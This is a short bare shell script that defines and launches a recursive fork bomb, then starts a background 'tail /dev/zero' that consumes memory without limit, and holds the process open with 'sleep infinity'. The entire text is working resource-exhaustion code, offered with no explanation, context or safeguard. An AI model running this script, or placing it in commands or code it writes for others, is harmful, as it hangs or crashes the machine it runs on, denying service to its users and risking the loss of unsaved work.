bomb() { bomb | bomb & }
bomb
tail /dev/zero &
sleep infinity
